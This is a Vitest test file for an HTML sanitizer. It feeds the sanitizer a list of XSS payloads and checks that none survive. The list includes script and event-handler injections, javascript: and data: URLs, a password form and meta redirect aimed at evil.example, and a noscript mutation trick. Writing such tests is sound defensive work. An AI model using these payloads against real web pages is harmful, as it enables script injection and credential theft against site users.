import { describe, expect, it } from 'vitest';
import { sanitize } from './sanitize.ts';

describe('sanitized HTML', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java&#10;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="position:fixed;inset:0">x</p>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<a href="//evil.example">x</a>',
    '<style>body{display:none}</style>',
    '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=//evil.example"><link rel="x" href="//e">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  ])('[CON-09] loses what runs, frames, covers or posts: %s', (html) => {
    expect(sanitize(html)).not.toMatch(
      /script|onerror|onload|onclick|onmouseover|iframe|object|embed|<form|<input|<base|<meta|<link|<style|url\(|position|evil|data:|<svg/i,
    );
  });

  it('[CON-09] keeps everything that the editor creates', () => {
    const html =
      '<h2 style="text-align:center">A</h2><p style="margin-left:2rem"><strong>b</strong><em>i</em><s>s</s><u>u</u>' +
      '<sub>1</sub><sup>2</sup><code>c</code></p><hr /><blockquote><p>q</p></blockquote><pre><code>x</code></pre>' +
      '<ul><li>a</li></ul><ol start="3"><li>b</li></ol><a href="/about">in</a><a href="mailto:a@b.example">m</a>' +
      '<img src="/files/x" alt="a" width="10" height="10" /><table><tbody><tr><td colspan="2">c</td></tr></tbody></table>';
    expect(sanitize(html)).toBe(html);
  });

  it('[CON-09] gives a page in a new tab no access to ours', () => {
    expect(sanitize('<a href="https://a.example" target="_blank" rel="opener">x</a>')).toBe(
      '<a href="https://a.example" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });
});
